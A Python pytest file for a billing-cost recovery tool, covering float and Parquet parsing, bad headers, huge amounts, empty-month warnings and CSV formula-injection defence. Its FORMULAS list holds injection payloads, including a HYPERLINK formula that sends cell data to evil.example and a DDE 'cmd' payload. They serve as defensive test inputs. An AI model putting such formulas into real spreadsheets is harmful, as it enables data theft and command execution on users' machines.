"""Billing input that used to crash a run or give a wrong total with exit 0 (issue 12, "Cost"):
float cost columns, Parquet without optional columns, empty/duplicated headers, huge amounts,
CSV formula injection in statements, and a month without any line."""

from __future__ import annotations

import csv
import json
from decimal import Decimal

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from seedance_tasks.cli import app
from seedance_tasks.cost import ingest
from seedance_tasks.cost.recover import recover_month
from seedance_tasks.errors import InputError
from tests.cost.helpers import SAMPLE, line, write_focus, write_owners

SAMPLE_BILLED_TOTAL = Decimal("20.52022672899")


def _sample_table() -> pa.Table:
    """The FOCUS sample as Arrow infers it: BilledCost/EffectiveCost become float64."""
    return pacsv.read_csv(SAMPLE, convert_options=pacsv.ConvertOptions(null_values=["NULL"], strings_can_be_null=True))


def _lines(path) -> tuple[list[dict], list[dict]]:
    kept, rejected = [], []
    for batch, bad in ingest.read_focus(str(path)):
        kept.extend(batch.to_pylist())
        rejected.extend(bad)
    return kept, rejected


def _csv_column(column: str) -> list[Decimal]:
    with open(SAMPLE, newline="") as handle:
        return [Decimal(row[column]) for row in csv.DictReader(handle)]


@pytest.mark.parametrize("float_type", [pa.float64(), pa.float32()])
def test_float_cost_columns_are_read_as_their_shortest_repr(tmp_path, float_type):
    table = _sample_table()
    assert table.schema.field("BilledCost").type == pa.float64()
    if float_type == pa.float32():
        table = table.set_column(table.schema.get_field_index("BilledCost"), "BilledCost",
                                 table.column("BilledCost").cast(pa.float32()))
    path = tmp_path / "focus.parquet"
    pq.write_table(table, path)
    kept, rejected = _lines(path)
    assert rejected == [] and len(kept) == 1000
    if float_type == pa.float64():  # exactly the CSV's decimals, line by line
        assert [item["BilledCost"] for item in kept] == _csv_column("BilledCost")
        assert [item["EffectiveCost"] for item in kept] == _csv_column("EffectiveCost")
        assert sum(item["BilledCost"] for item in kept) == SAMPLE_BILLED_TOTAL
    else:  # a float32 reads as its own shortest repr (0.1f -> 0.1, not 0.100000001490116)
        import numpy as np

        expected = [Decimal(str(np.float32(value))) for value in table.column("BilledCost").to_pylist()]
        assert [item["BilledCost"] for item in kept] == expected


def test_float_noise_past_twelve_places_is_rounded_and_non_finite_floats_are_rejected(tmp_path):
    costs = [0.1, 0.30000000000000004, 1e-13, 2.5e17, float("nan"), float("inf"), 1e30, None]
    table = pa.table({"ChargePeriodStart": ["2024-09-01"] * len(costs), "BillingCurrency": ["USD"] * len(costs),
                      "BilledCost": pa.array(costs, pa.float64()), "EffectiveCost": pa.array([1.0] * len(costs))})
    path = tmp_path / "noise.parquet"
    pq.write_table(table, path)
    kept, rejected = _lines(path)
    assert [item["BilledCost"] for item in kept] == [Decimal("0.1"), Decimal("0.3"), Decimal(0), Decimal("2.5E+17")]
    assert [(item["row"], item["column"]) for item in rejected] == [
        (5, "BilledCost"), (6, "BilledCost"), (7, "BilledCost"), (8, "BilledCost")]
    reasons = [item["reason"] for item in rejected]
    assert "not a finite number" in reasons[0] and "not a finite number" in reasons[1]
    assert "out of range" in reasons[2] and reasons[3] == "missing BilledCost"


def test_float_parquet_month_reconciles_end_to_end(tmp_path):
    path = tmp_path / "billing" / "focus.parquet"
    path.parent.mkdir()
    pq.write_table(_sample_table(), path)
    owners = write_owners(tmp_path / "owners.yaml")
    totals = Decimal(0)
    for month in ("2024-09", "2024-10"):
        summary = recover_month(month=month, billing=str(path), owners=str(owners), out=str(tmp_path / "out"),
                                basis="BilledCost")["summary"]
        assert summary["rejected_count"] == 0
        totals += Decimal(summary["currencies"]["USD"]["total"]) if summary["currencies"] else 0
    assert totals == SAMPLE_BILLED_TOTAL


def test_parquet_without_optional_columns_reads_like_the_same_csv(tmp_path):
    rows = [line("2024-09-01 00:00:00", "1.25"), line("2024-09-02 00:00:00", "2.5", currency="EUR")]
    csv_path = write_focus(tmp_path / "b.csv", rows)
    table = pacsv.read_csv(csv_path, convert_options=pacsv.ConvertOptions(column_types={
        "BilledCost": pa.string(), "EffectiveCost": pa.string()}))
    minimal = table.select(["ChargePeriodStart", "BillingCurrency", "BilledCost", "EffectiveCost"])
    pq.write_table(minimal, tmp_path / "b.parquet")
    csv_minimal = tmp_path / "min.csv"
    pacsv.write_csv(minimal, csv_minimal)
    from_parquet, rejected = _lines(tmp_path / "b.parquet")
    from_csv, _ = _lines(csv_minimal)
    assert rejected == [] and from_parquet == from_csv
    assert [item["BilledCost"] for item in from_parquet] == [Decimal("1.25"), Decimal("2.5")]
    assert all(item["Tags"] is None and item["BillingAccountId"] is None for item in from_parquet)


def _cli(tmp_path, billing, *extra):
    owners = write_owners(tmp_path / "owners.yaml")
    return CliRunner().invoke(app, ["cost", "recover", "--month", "2024-09", "--billing", str(billing),
                                    "--owners", str(owners), "--out", str(tmp_path / "out"), *extra])


@pytest.mark.parametrize("content, message", [
    ("", "empty.csv: empty file, no header line"),
    ("\ufeff\n", "empty.csv: empty file, no header line"),
])
def test_an_empty_csv_is_a_clear_error(tmp_path, content, message):
    path = tmp_path / "empty.csv"
    path.write_text(content)
    with pytest.raises(InputError, match=message):
        _lines(path)
    result = _cli(tmp_path, path)
    assert result.exit_code == 1 and "error: " + message in result.output and "hint:" in result.output
    assert "Traceback" not in result.output


def test_a_duplicated_header_column_is_a_clear_error_naming_it(tmp_path):
    path = tmp_path / "dup.csv"
    path.write_text("ChargePeriodStart,BillingCurrency,BilledCost,EffectiveCost,BilledCost\n"
                    "2024-09-01,USD,1,1,2\n")
    with pytest.raises(InputError, match="dup.csv: column 'BilledCost' appears 2 times"):
        _lines(path)
    result = _cli(tmp_path, path)
    assert result.exit_code == 1 and "column 'BilledCost' appears 2 times" in result.output
    assert "hint:" in result.output and "Traceback" not in result.output
    # a duplicated column Seedance does not read is no reason to refuse the file
    path.write_text("ChargePeriodStart,BillingCurrency,BilledCost,EffectiveCost,x_Note,x_Note\n"
                    "2024-09-01,USD,1,1,a,b\n")
    kept, rejected = _lines(path)
    assert [item["BilledCost"] for item in kept] == [Decimal(1)] and rejected == []


def test_huge_amounts_are_rejected_with_their_row_or_summed_exactly(tmp_path):
    big = "99999999999999999.999999999999"  # just below the 1e18 bound; 30 digits
    rows = [line("2024-09-01 00:00:00", "1e30"),  # row 1: out of range
            line("2024-09-02 00:00:00", "1e16"),  # row 2: fine, next to a bad value
            line("2024-09-03 00:00:00", "12,5"),  # row 3: not a number
            line("2024-09-04 00:00:00", big), line("2024-09-05 00:00:00", big),
            line("2024-09-06 00:00:00", "-1e18")]  # row 6: out of range
    billing = write_focus(tmp_path / "b.csv", rows)
    kept, rejected = _lines(billing)
    assert [(item["row"], item["column"]) for item in rejected] == [
        (1, "BilledCost"), (3, "BilledCost"), (6, "BilledCost")]
    assert "out of range" in rejected[0]["reason"] and "not a number" in rejected[1]["reason"]
    assert [item["BilledCost"] for item in kept] == [Decimal("1e16"), Decimal(big), Decimal(big)]
    owners = write_owners(tmp_path / "owners.yaml")
    summary = recover_month(month="2024-09", billing=str(billing), owners=str(owners),
                            out=str(tmp_path / "out"))["summary"]
    # 1e16 + 2 * big, exact: Python's default 28-digit context would round this sum
    assert summary["currencies"]["USD"]["total"] == "209999999999999999.999999999998"
    assert summary["rejected_count"] == 3


def test_only_huge_amounts_in_the_fast_path_are_still_range_checked(tmp_path):
    billing = write_focus(tmp_path / "b.csv", [line("2024-09-01 00:00:00", "5e20"), line("2024-09-02 00:00:00", "5")])
    kept, rejected = _lines(billing)  # Arrow's cast accepts 5e20 (MONEY holds it); the bound still applies
    assert [item["BilledCost"] for item in kept] == [Decimal(5)]
    assert [(item["row"], item["column"]) for item in rejected] == [(1, "BilledCost")]
    assert "out of range" in rejected[0]["reason"]


FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-1+2", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]


def test_statements_neutralise_formula_cells_and_keep_numbers(tmp_path):
    rows = [line("2024-09-01 00:00:00", "1.5", tags={"owner": owner}, service="=1+2")
            for owner in FORMULAS]
    rows.append(line("2024-09-02 00:00:00", "-2.25", tags={"owner": "plain"}, service="@evil"))
    billing = write_focus(tmp_path / "b.csv", rows)
    owners = write_owners(tmp_path / "owners.yaml")
    out = tmp_path / "out"
    summary = recover_month(month="2024-09", billing=str(billing), owners=str(owners), out=str(out))["summary"]
    assert set(summary["currencies"]["USD"]["by_owner"]) == {owner.strip() for owner in FORMULAS} | {"plain"}
    cells = []
    for path in sorted((out / "month=2024-09" / "statements").iterdir()):
        with path.open(newline="") as handle:
            cells.extend(csv.reader(handle))
    text_cells = [cell for row in cells for cell in (row[1], row[3])]
    dangerous = [cell for cell in text_cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    owners_seen = {row[1] for row in cells if row[1] != "owner"}
    assert owners_seen == {"'" + owner.strip() if owner.strip()[:1] in "=+-@" else owner for owner in FORMULAS} | {
        "plain"}
    assert {row[3] for row in cells if row[3] not in ("service", "TOTAL")} == {"'=1+2", "'@evil"}
    plain = [row for row in cells if row[1] == "plain"]
    assert plain[0][7] == "-2.25" and plain[-1][7] == "-2.25"  # numbers stay numbers, sign and all


def test_formula_cells_with_leading_tab_or_cr_are_neutralised():
    from seedance_tasks.cost.statements import safe_text, write_csv

    assert [safe_text(value) for value in ("\tx", "\rx", "\nx", "＝1", "ok", "", None, "a=b")] == [
        "'\tx", "'\rx", "'\nx", "'＝1", "ok", "", "", "a=b"]
    rows = list(csv.reader(write_csv(["a", "b"], [["-1+2", Decimal("-3.50")], ["x", 7]]).decode().splitlines()))
    assert rows == [["a", "b"], ["'-1+2", "-3.5"], ["x", "7"]]


def test_an_empty_month_warns_in_the_summary_and_the_cli(tmp_path):
    billing = write_focus(tmp_path / "b.csv", [line("2024-08-01 00:00:00", "1"), line("2024-09-01 00:00:00", "x")])
    owners = write_owners(tmp_path / "owners.yaml")
    summary = recover_month(month="2024-09", billing=str(billing), owners=str(owners),
                            out=str(tmp_path / "out"))["summary"]
    assert summary["lines"] == 0 and summary["currencies"] == {}
    assert summary["warnings"] == [f"no billing lines in 2024-09: 2 rows read from {billing}, 1 of them rejected, "
                                   "none valid and dated in the month; its valid lines are dated 2024-08 (1 line): "
                                   "was another month meant?"]
    result = _cli(tmp_path, billing, "--json")
    assert result.exit_code == 0
    assert "warning: no billing lines in 2024-09" in result.stderr
    assert json.loads(result.stdout)["summary"]["warnings"][0].startswith("no billing lines in 2024-09")
    full = write_focus(tmp_path / "full.csv", [line("2024-09-01 00:00:00", "1")])
    assert recover_month(month="2024-09", billing=str(full), owners=str(owners),
                         out=str(tmp_path / "out2"))["summary"]["warnings"] == []


def test_an_empty_month_warning_names_the_months_the_lines_are_dated_in(tmp_path, monkeypatch):
    days = [("2024-08-03 00:00:00", 4), ("2024-10-31 23:59:59", 3), ("2023-09-01 00:00:00", 2),
            ("2024-08-01T00:00:00+02:00", 1), ("2024-07-15 00:00:00", 1)]  # +02:00: 2024-07-31 22:00 UTC
    billing = write_focus(tmp_path / "b.csv", [line(day, "1") for day, count in days for _ in range(count)])
    owners = write_owners(tmp_path / "owners.yaml")
    monkeypatch.setenv("SEEDANCE__COST__BATCH_ROWS", "2")  # months counted across batches
    summary = recover_month(month="2024-09", billing=str(billing), owners=str(owners),
                            out=str(tmp_path / "out"))["summary"]
    assert summary["warnings"] == [f"no billing lines in 2024-09: 11 rows read from {billing}, none valid and dated "
                                   "in the month; its valid lines are dated 2024-08 (4 lines), 2024-10 (3 lines), "
                                   "2023-09 (2 lines) and 1 more months: was another month meant?"]
    monkeypatch.setenv("SEEDANCE__COST__FAIL_ON_EMPTY_MONTH", "true")
    result = _cli(tmp_path, billing)
    assert result.exit_code == 1 and "dated 2024-08 (4 lines)" in result.output, result.output


def test_an_empty_month_fails_before_publishing_when_config_says_so(tmp_path, monkeypatch):
    owners = write_owners(tmp_path / "owners.yaml")
    out = tmp_path / "out"
    good = write_focus(tmp_path / "good.csv", [line("2024-09-01 00:00:00", "4", tags={"owner": "a"})])
    recover_month(month="2024-09", billing=str(good), owners=str(owners), out=str(out))
    before = {p: p.read_bytes() for p in (out / "month=2024-09").rglob("*") if p.is_file()}
    empty = write_focus(tmp_path / "empty.csv", [line("2024-08-01 00:00:00", "1")])
    monkeypatch.setenv("SEEDANCE__COST__FAIL_ON_EMPTY_MONTH", "true")
    result = _cli(tmp_path, empty)
    assert result.exit_code == 1, result.output
    assert "error: no billing lines in 2024-09" in result.output and "nothing published" in result.output
    assert "cost.fail_on_empty_month" in result.output  # the hint
    assert {p: p.read_bytes() for p in (out / "month=2024-09").rglob("*") if p.is_file()} == before


@pytest.mark.parametrize("damage", ["not parquet", "truncated", "footer only"])
@pytest.mark.parametrize("billing_format", ["focus", "cur"])
def test_an_unreadable_parquet_billing_file_is_named_with_a_hint(tmp_path, damage, billing_format):
    """A billing file that is not whole Parquet is an `error:` naming it, for FOCUS and CUR alike."""
    good = tmp_path / "good.parquet"
    pq.write_table(_sample_table(), good)
    data = good.read_bytes()
    path = tmp_path / "bill.parquet"
    path.write_bytes({"not parquet": b"{}\n", "truncated": data[: len(data) // 2],
                      "footer only": data[-8:]}[damage])
    result = _cli(tmp_path, path, "--format", billing_format)
    assert result.exit_code == 1, result.output
    assert "error: bill.parquet: unreadable billing file" in result.output and "hint:" in result.output
    assert "Traceback" not in result.output
